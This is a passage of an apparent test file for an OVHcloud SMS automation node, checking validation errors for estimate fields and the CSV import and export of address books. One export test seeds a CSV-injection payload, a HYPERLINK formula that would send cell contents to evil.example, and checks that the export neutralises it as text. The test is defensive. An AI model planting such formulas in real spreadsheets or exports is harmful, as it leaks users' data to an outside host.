			bad: { maxParts: 'six' },
			error: /^"Maximum Parts" must be a whole number from 1 to 255, not "six"; nothing was estimated \[item 1\]$/,
		},
		{
			input: 'Estimate: Number of Recipients "ten"',
			bad: { count: 'ten' },
			error: /^"Number of Recipients" must be a whole number from 0 to 100000000, not "ten"; nothing was estimated \[item 1\]$/,
		},
		{
			input: 'Estimate: Transliteration "strong"',
			bad: { transliteration: 'strong' },
			error: /^"Transliteration" must be one of "none", "safe", "lossy", not "strong"; nothing was estimated \[item 1\]$/,
		},
	];
	test.each(rows)('$input', async ({ input, bad, error }) => {
		const result = await harness.run(parameters, [good, { ...good, ...bad }, good], { continueOnFail: true });
		expectPaired(result, 3);
		const out = jsonOf(result);
		expect(out[1].error).toMatch(error);
		note(input, String(out[1].error));
		for (const index of [0, 2]) expect(out[index]).toMatchObject({ withinMaxParts: false, maxParts: 6, creditsNeeded: 140 });
	});
});

describe('Address Book import: CSV files', () => {
	let bookKey = '';
	const runBook = (parameters: IDataObject, items?: INodeExecutionData[], continueOnFail = false) =>
		runNode({
			type: 'ovhSmsAddressBook',
			parameters: { serviceName: { __rl: true, mode: 'id', value: harness.sandbox.serviceName }, ...parameters },
			credentials: apiCredentials(),
			items,
			continueOnFail,
		});
	beforeEach(async () => {
		const created = await runBook({ resource: 'addressBook', operation: 'create', bookName: 'Bad input' });
		bookKey = created.output[0].json.bookKey as string;
	});
	const importParameters = () => ({
		resource: 'addressBook',
		operation: 'import',
		importMode: 'ovhImport',
		binaryPropertyName: 'data',
		addressBook: { __rl: true, mode: 'id', value: bookKey },
		importOptions: { pollIntervalSeconds: 0.02 },
	});
	const contacts = () =>
		Object.values(harness.account().phonebooks[bookKey].contacts)
			.map((c) => c.homeMobile)
			.sort();
	const goodFile = csvItem('group;name;surname;homeMobile\nVIP;Zoe;Last;+33699999901\n', 'other.csv');

	const rows: Array<{
		input: string;
		file: string | Buffer;
		error?: RegExp;
		created?: string[];
		rejected?: Array<{ line: number; reason: RegExp }>;
	}> = [
		{ input: 'Import: CSV with a BOM', file: '\uFEFFname;surname;homeMobile\nAnn;A;+33611111101\n', created: ['+33611111101'] },
		{
			input: 'Import: CSV with `,`',
			file: 'name,surname,homeMobile\nAnn,A,+33611111101\nBob,B,0611111102\n',
			created: ['+33611111101', '+33611111102'],
		},
		{
			input: 'Import: quoted fields with `;` and line breaks',
			file: 'name;surname;homeMobile\n"Ann; Jr";"A\nB";+33611111101\nBob;B;12\nCarl;C;+33611111103\n',
			created: ['+33611111103'],
			rejected: [
				{ line: 2, reason: /^a line break or control character in surname: OVHcloud's import skips such contacts/ },
				{ line: 4, reason: /homeMobile "12" is not a valid phone number/ },
			],
		},
		{
			input: 'Import: blank lines',
			file: 'name;surname;homeMobile\n\nAnn;A;+33611111101\n\n\nBob;;+33611111102\n',
			created: ['+33611111101'],
			rejected: [{ line: 6, reason: /^no surname$/ }],
		},
		{
			input: 'Import: numbers in a column not named like a phone field',
			file: 'name;surname;phone\nAnn;A;+33611111101\n',
			error:
				/^No phone number column: name one homeMobile, homePhone, workMobile, workPhone, or map columns to fields \(the file's columns are "name", "surname", "phone"\)$/,
		},
		{
			input: 'Import: binary junk as the file',
			file: BINARY_JUNK,
			error:
				/^"customers\.csv" is not a text file \(\d+ control characters in its first 4,096 characters, the first at position \d+\): is it really a CSV file\?$/,
		},
	];

	test.each(rows)('$input', async ({ input, file, error, created, rejected }) => {
		const result = await runBook(importParameters(), [csvItem(file), goodFile], true);
		expectPaired(result, 2);
		const [out, other] = jsonOf(result);
		expect(other).toMatchObject({ created: 1, rejected: 0 });
		if (error) {
			expect(out.error).toMatch(error);
			note(input, String(out.error));
			expect(contacts()).toEqual(['+33699999901']);
		} else {
			const rows = (out.rejectedRows as Array<{ line: number; reason: string }>) ?? [];
			expect(rows).toHaveLength(rejected?.length ?? 0);
			rejected?.forEach((expected, k) => {
				expect(rows[k].line).toBe(expected.line);
				expect(rows[k].reason).toMatch(expected.reason);
			});
			note(input, `${String(out.summary)}${rows.length ? `; ${rows.map((r) => `line ${r.line}: ${r.reason}`).join('; ')}` : ''}`);
			expect(contacts()).toEqual([...created!, '+33699999901'].sort());
		}
		expect(creditsLeft()).toBe(CREDITS);
	});

	test('Export: a contact named like a spreadsheet formula is written as text (CSV injection)', async () => {
		const client = sandboxClient(harness.sandbox);
		const path = `/sms/${harness.sandbox.serviceName}/phonebooks/${bookKey}/phonebookContact`;
		const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
		await client.post(path, { group: 'VIP', name: '@SUM(1+1)', surname: formula, homeMobile: '+33611111101' });
		await client.post(path, { group: 'VIP', name: 'Ann', surname: 'Dupont', homeMobile: '+33611111102' });
		const result = await runBook({
			resource: 'addressBook',
			operation: 'export',
			addressBook: { __rl: true, mode: 'id', value: bookKey },
			binaryPropertyName: 'data',
		});
		expect(result.status).toBe('success');
		const csv = Buffer.from(result.output[0].binary!.data.data, 'base64').toString('utf8');
		const lines = csv.trim().split('\n').sort();
		expect(lines).toContain(`VIP;"'@SUM(1+1)";"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")";+33611111101;;;`);
		expect(lines).toContain('VIP;Ann;Dupont;+33611111102;;;');
		note(
			'Export: contact named =HYPERLINK(…), first name @SUM(1+1)',
			`written as "'=HYPERLINK(…)" and "'@SUM(1+1)": text in a spreadsheet; phone numbers unchanged`,
		);
	});
});
